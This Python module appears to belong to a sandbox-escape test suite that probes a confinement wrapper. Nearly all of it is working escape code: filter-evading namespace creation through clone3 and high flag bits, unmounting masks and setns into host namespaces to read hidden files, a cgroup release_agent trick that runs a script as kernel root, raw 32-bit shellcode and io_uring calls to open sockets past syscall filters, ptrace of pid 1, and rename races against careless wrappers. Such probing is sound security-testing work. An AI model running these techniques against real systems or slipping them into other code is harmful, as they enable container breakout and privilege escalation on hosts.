"""Surface F, inside."""

import array
import ctypes
import mmap
import os
import platform
import signal
import socket
import stat
import struct
import sys
import time

from nodewrap.escape.hostile.common import LIBC, call, in_child, read, say, syscall

NEWNS, NEWCGROUP, NEWUSER, NEWPID, NEWNET = 0x20000, 0x02000000, 0x10000000, 0x20000000, 0x40000000
MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE, MS_SHARED, DETACH = 32, 4096, 16384, 1 << 18, 1 << 20, 2
NUMBERS = {"x86_64": (56, 272, 304, 321, 298, 323, 300, 41, 316), "aarch64": (220, 97, 265, 280, 241, 282, 262, 198, 276)}
CLONE, UNSHARE, OPEN_BY_HANDLE, BPF, PERF_EVENT, USERFAULT, FANOTIFY, SOCKET, RENAME = NUMBERS.get(platform.machine(), NUMBERS["x86_64"])
CLONE3, FSOPEN, IO_URING_SETUP, IO_URING_ENTER = 435, 430, 425, 426


def tried(*ways):
    """What each way brings, or its error."""
    found = []
    for way in ways:
        try:
            said = way()
            found.append(said if isinstance(said, bytes) else str(said).encode())
        except OSError as wrong:
            found.append(f"[{wrong.strerror}]".encode())
    return b" ".join(found)


def hold(said):
    """Let the judge look, until it has seen enough."""
    say(said)
    sys.stdin.buffer.read()


def become_root(more=0):
    """Root of a user namespace of our own, with a mount namespace; the caller's numbers are taken before."""
    uid, gid = os.geteuid(), os.getegid()
    call(LIBC.unshare, NEWUSER | NEWNS | more)
    for name, text in (("uid_map", f"0 {uid} 1"), ("setgroups", "deny"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)


def mount(source, target, kind=None, flags=0, data=None):
    as_bytes = [None if word is None else os.fsencode(word) for word in (source, target, kind)]
    call(LIBC.mount, *as_bytes, ctypes.c_ulong(flags), None if data is None else data.encode())


def umount(target):
    call(LIBC.umount2, os.fsencode(target), DETACH)


def stay(work, *args):
    """work in a child that stays as it is afterwards, as long as we do. Raises its OSError."""
    reader, writer = os.pipe()
    parent = os.getpid()
    if os.fork() == 0:
        LIBC.prctl(1, signal.SIGKILL, 0, 0, 0)
        try:
            work(*args)
            os.write(writer, b"0")
        except OSError as wrong:
            os.write(writer, str(wrong.errno).encode())
            os._exit(0)
        while os.getppid() == parent:
            signal.pause()
        os._exit(0)
    os.close(writer)
    number = int(os.read(reader, 10) or 5)
    os.close(reader)
    if number:
        raise OSError(number, os.strerror(number))
    return "done"


# ---- namespaces ----


def nested():
    """A user namespace, by every call that makes one and lets its flags be seen."""
    say("before")
    sys.stdin.buffer.readline()

    def cloned(flags):
        pid = syscall(CLONE, ctypes.c_ulong(flags | signal.SIGCHLD), None, None, None, None)
        if pid == 0:
            signal.pause()
        return pid

    ways = [lambda high=high: cloned(NEWUSER | high) for high in (0, 1 << 40)]
    hold(tried(*ways, lambda: call(LIBC.unshare, NEWUSER), lambda: syscall(UNSHARE, ctypes.c_ulong(NEWUSER | 1 << 40))))


def behind_a_pointer():
    """The same by clone3, whose flags no filter can see."""
    say("before")
    sys.stdin.buffer.readline()

    def cloned():
        arguments = struct.pack("8Q", NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
        pid = syscall(CLONE3, arguments, ctypes.c_size_t(len(arguments)))
        if pid == 0:
            signal.pause()
        return pid

    hold(tried(cloned))


def fs_context():
    def context():
        return syscall(FSOPEN, b"tmpfs", 0)

    def as_root():
        become_root()
        context()

    hold(tried(context, lambda: stay(as_root)))


def setns_back(path):
    """Into every namespace that a descriptor or a process leads to, then read."""
    ways = [f"/proc/{pid}/ns/{kind}" for pid in ("1", os.getppid()) for kind in ("user", "mnt", "pid", "net")]
    ways += [f"/proc/self/fd/{fd}" for fd in os.listdir("/proc/self/fd") if ":[" in (link(f"/proc/self/fd/{fd}"))]

    def enter(way, root):
        if root:
            become_root()
        fd = os.open(way, os.O_RDONLY)
        call(LIBC.setns, fd, 0)
        return read(path).decode("ascii", "replace")

    return tried(*(lambda at=way, root=root: in_child(enter, at, root) for root in (False, True) for way in ways))


def link(path):
    try:
        return os.readlink(path)
    except OSError:
        return ""


def careless_walls(path):
    """A wrapper that hides a directory and keeps a descriptor of the namespace in which it is not hidden."""
    os.set_inheritable(os.open("/proc/self/ns/mnt", os.O_RDONLY), True)
    call(LIBC.unshare, NEWNS)
    mount("none", "/", None, MS_REC | MS_PRIVATE)
    mount("none", os.path.dirname(path), "tmpfs")
    return setns_back(path)


# ---- mounts ----


def uncover(path):
    """Read what lies below a mount: by taking mounts off, by looking around them, as we are and as root of a user namespace."""

    def around():
        os.mkdir("around")
        mount("/", "around", None, MS_BIND)
        return read(f"around{path}").decode("ascii", "replace")

    def off():
        targets = [line.split()[4] for line in read("/proc/self/mountinfo").decode().splitlines()]
        for target in reversed([at for at in targets if at not in ("/", "/proc") and not path.startswith(f"/proc/{at}")]):
            try:
                umount(target)
            except OSError:
                continue
        return read(path).decode("ascii", "replace")

    def as_root(work):
        become_root()
        return work()

    return tried(lambda: read(path), lambda: in_child(off), lambda: in_child(as_root, around), lambda: in_child(as_root, off))


def careless_mask(path):
    """A wrapper that hides a directory in the very namespaces that it gives away."""
    call(LIBC.unshare, NEWNS)
    mount("none", os.path.dirname(path), "tmpfs")

    def off():
        umount(os.path.dirname(path))
        return read(path).decode("ascii", "replace")

    return tried(lambda: read(path), lambda: in_child(off))


def mount_at(path):
    """A mount that the host would see, as we are and from a mount namespace made to propagate."""

    def as_root():
        become_root()
        try:
            mount("none", "/", None, MS_REC | MS_SHARED)
        except OSError:
            pass
        mount("none", path, "tmpfs")

    hold(tried(lambda: mount("none", path, "tmpfs"), lambda: stay(as_root)))


def remount_and_write(path, word):
    """A file that everybody may write, below a read-only mount: directly, after remounts, and through binds of it."""

    def written(at=path):
        with open(at, "w") as file:
            file.write(word)

    def remounted():
        become_root()
        found = [line.split()[4] for line in read("/proc/self/mountinfo").decode().splitlines()]
        for target in found:
            for flags in (MS_REMOUNT | MS_BIND, MS_REMOUNT):
                try:
                    mount("none", target, None, flags)
                except OSError:
                    continue
        written()

    def bound():
        become_root()
        os.makedirs("bound")
        mount(os.path.dirname(path), "bound", None, MS_BIND)
        mount("none", "bound", None, MS_REMOUNT | MS_BIND)
        written(f"bound/{os.path.basename(path)}")

    return tried(written, lambda: in_child(remounted), lambda: in_child(bound))


# ---- settings of the kernel's ----


def open_settings(*paths):
    """Open them for writing; nothing is written. Also on a /proc and /sys mounted anew."""
    held = []

    def one(path):
        held.append(os.open(path, os.O_WRONLY))

    def anew():
        become_root(NEWPID)
        if os.fork():
            signal.pause()
        LIBC.prctl(1, signal.SIGKILL, 0, 0, 0)
        for name in ("proc", "sys"):
            os.makedirs(f"anew/{name}", exist_ok=True)
        for name, kind in (("proc", "proc"), ("sys", "sysfs")):
            try:
                mount("none", f"anew/{name}", kind)
            except OSError:
                continue
        for path in paths:
            try:
                one(f"anew{path}")
            except OSError:
                continue
        signal.pause()

    said = tried(*(lambda at=path: one(at) for path in paths))
    pid = os.fork()
    if pid == 0:
        LIBC.prctl(1, signal.SIGKILL, 0, 0, 0)
        try:
            anew()
        except OSError:
            os._exit(0)
    time.sleep(0.1)
    hold(said)


def false_proc(victim, *command):
    """Start it where /proc is a directory of ours, whose files lead to the victim."""
    uid, gid = os.getuid(), os.getgid()
    call(LIBC.unshare, NEWUSER | NEWNS)
    for name, text in (("uid_map", f"{uid} {uid} 1"), ("setgroups", "deny"), ("gid_map", f"{gid} {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    mount("none", "/proc", "tmpfs")
    for top in ("self", "thread-self", str(os.getpid()), "sys/kernel"):
        os.makedirs(f"/proc/{top}/attr")
        for name in ("uid_map", "gid_map", "setgroups", "oom_score_adj", "loginuid", "attr/exec", "core_pattern"):
            os.symlink(victim, f"/proc/{top}/{name}")
    os.execv(command[0], command)


def careless_writer(word):
    """Writes to /proc as wrappers do, without asking whether it is one."""
    for name in ("oom_score_adj", "attr/exec"):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(word)


def masked_proc(*command):
    """Start it as in a container: in a user namespace whose /proc is partly covered, so that the kernel refuses a new one (mount_too_revealing)."""
    uid, gid = os.getuid(), os.getgid()
    call(LIBC.unshare, NEWUSER | NEWNS)
    for name, text in (("uid_map", f"{uid} {uid} 1"), ("setgroups", "deny"), ("gid_map", f"{gid} {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    mount("none", "/proc/sys", "tmpfs")
    os.execv(command[0], command)


def release_agent(word, script):
    """A cgroup v1 hierarchy of our own, whose agent the kernel starts as its own root when a group gets empty."""

    def armed(more):
        if more:
            become_root(NEWCGROUP)
        os.makedirs("cg", exist_ok=True)
        mount("none", "cg", "cgroup", 0, f"none,name={word}")
        try:
            with open("cg/release_agent", "w") as file:
                file.write(script)
            os.mkdir("cg/x")
            with open("cg/x/notify_on_release", "w") as file:
                file.write("1")
            pid = os.fork()
            if pid == 0:
                with open("cg/x/cgroup.procs", "w") as file:
                    file.write("0")
                os._exit(0)
            os.waitpid(pid, 0)
        finally:
            if os.path.isdir("cg/x"):
                os.rmdir("cg/x")
            umount("cg")

    return tried(lambda: in_child(armed, False), lambda: in_child(armed, True))


# ---- files by other ways than names ----


def by_handle(kind, content):
    handle = bytes.fromhex(content)
    fd = syscall(OPEN_BY_HANDLE, os.open(".", os.O_RDONLY), struct.pack("Ii", len(handle), int(kind)) + handle, os.O_RDONLY)
    return os.read(fd, 100)


def receive_directory(path):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(3)
        sock.connect(path)
        _, more, _, _ = sock.recvmsg(1, socket.CMSG_SPACE(4))
        fd = array.array("i", more[0][2][:4])[0]
    return tried(lambda: os.read(os.open("secret", os.O_RDONLY, dir_fd=fd), 100))


def give_directory(path, directory):
    """An accomplice of the payload's outside."""
    fd = os.open(directory, os.O_RDONLY)
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(path)
        os.chmod(path, 0o777)
        server.listen(1)
        say("ready")
        other, _ = server.accept()
        other.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
        signal.pause()


def open_devices(*paths):
    """The node's, and ones made here, as we are and as root of a user namespace."""
    held = []

    def made(major, minor, kind):
        name = f"node{major}-{minor}"
        os.mknod(name, 0o666 | kind, os.makedev(major, minor))
        held.append(os.open(name, os.O_RDONLY | os.O_NONBLOCK))

    def as_root():
        become_root()
        for node in ((7, 0, stat.S_IFBLK), (1, 11, stat.S_IFCHR)):
            made(*node)

    ways = [lambda at=path: held.append(os.open(at, os.O_RDONLY | os.O_NONBLOCK)) for path in paths]
    hold(tried(*ways, lambda: made(1, 1, stat.S_IFCHR), lambda: made(7, 1, stat.S_IFBLK), lambda: stay(as_root)))


# ---- sockets and other doors to the kernel ----


def open_sockets(*wanted):
    """Each FAMILY:TYPE:PROTOCOL, also with bits above those that the kernel looks at, and as root of user and network namespaces."""
    held = []
    parts = [[int(number) for number in word.split(":")] for word in wanted]

    def made():
        for family, kind, protocol in parts:
            for high in (0, 1 << 32):
                try:
                    held.append(syscall(SOCKET, ctypes.c_ulong(family | high), kind, protocol))
                except OSError:
                    continue
        if not held:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return len(held)

    def as_root():
        become_root(NEWNET)
        made()

    hold(tried(made, lambda: stay(as_root)))


def foreign_sockets():
    """By the 32-bit system calls, which every 64-bit program may use where the kernel has them: socketcall, and socket."""
    at = LIBC.mmap
    at.restype, at.argtypes = ctypes.c_void_p, (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)
    page = at(None, 4096, 7, 0x62, -1, 0)  # MAP_32BIT: its numbers have 32 bits
    through = b"\x53\xb8\x66\0\0\0\xbb\x01\0\0\0\xb9" + struct.pack("I", page + 1024) + b"\xcd\x80\x5b\xc3"
    direct = b"\x53\xb8\x67\x01\0\0\xbb\x28\0\0\0\xb9\x01\0\0\0\x31\xd2\xcd\x80\x5b\xc3"
    ctypes.memmove(page + 1024, struct.pack("3I", 40, 1, 0), 12)
    found = []
    for code in (through, direct):
        ctypes.memmove(page, code, len(code))
        found.append(ctypes.CFUNCTYPE(ctypes.c_int)(page)())
    hold(found)


def ring_sockets(family):
    """A socket made by io_uring, which no filter of system calls sees."""
    parameters = ctypes.create_string_buffer(120)
    ring = syscall(IO_URING_SETUP, 4, parameters)
    _, tail, mask, _, _, _, slots = struct.unpack_from("7I", parameters.raw, 40)
    queue, entries = mmap.mmap(ring, 4096), mmap.mmap(ring, 4096, offset=0x10000000)
    struct.pack_into("BBHiQQII", entries, 0, 45, 0, 0, int(family), 1, 0, 0, 0)  # IORING_OP_SOCKET, a stream
    struct.pack_into("I", queue, slots, 0)
    struct.pack_into("I", queue, tail, struct.unpack_from("I", queue, tail)[0] + 1)
    hold(f"ring {ring}, {syscall(IO_URING_ENTER, ring, 1, 1, 1, None, ctypes.c_size_t(0))} done, mask {mask}")


def open_doors():
    """A descriptor of each: bpf map, perf event, userfaultfd, fanotify."""
    attributes = struct.pack("5I", 2, 4, 4, 1, 0).ljust(120, b"\0")  # BPF_MAP_TYPE_ARRAY
    event = struct.pack("IIQ", 1, 128, 1).ljust(40, b"\0") + struct.pack("Q", 1 << 5 | 1 << 6)  # software; no kernel, no hypervisor
    hold(tried(
        lambda: syscall(BPF, 0, attributes, len(attributes)), lambda: syscall(PERF_EVENT, event.ljust(128, b"\0"), 0, -1, -1, ctypes.c_ulong(0)),
        lambda: syscall(USERFAULT, 1), lambda: syscall(FANOTIFY, 0x200, 0),
    ))


# ---- other processes ----


def trace(*pids):
    """PTRACE_SEIZE of these, our parent, pid 1, and what else is in sight of a /proc of our own."""
    every = {int(pid) for pid in pids} | {os.getppid(), 1}
    hold(tried(*(lambda at=pid: call(LIBC.ptrace, 0x4206, at, None, None) for pid in sorted(every - {0, os.getpid()}))))


def victim(word):
    """A process of the pilot's with the secret among its arguments."""
    say("ready")
    signal.pause()


def cmdline(pid):
    return read(f"/proc/{pid}/cmdline")


def exhaust_inotify():
    """Every instance that the kernel counts for this user (fs.inotify.max_user_instances)."""
    count, why = 0, "no end"
    try:
        while count < 1000:
            call(LIBC.inotify_init)
            count += 1
    except OSError as wrong:
        why = str(wrong.strerror)
    hold(f"{count} instances: {why}")


def can_watch():
    return call(LIBC.inotify_init) and "can"


# ---- races of the pilot's ----


def swap(one, other):
    """Exchange the two names for ever (renameat2, RENAME_EXCHANGE)."""
    say("ready")
    while True:
        syscall(RENAME, -100, one.encode(), -100, other.encode(), 2)


def careless_open(path, uid):
    """A wrapper that asks by name whose it is, and then opens by name."""
    end = time.monotonic() + 5
    while time.monotonic() < end:
        try:
            about = os.lstat(path)
            if stat.S_ISDIR(about.st_mode) and about.st_uid == int(uid) and (said := read(f"{path}/secret")) != b"nothing":
                return said
        except OSError:
            continue
    return "never"


def careless_makedirs(path):
    os.makedirs(path)
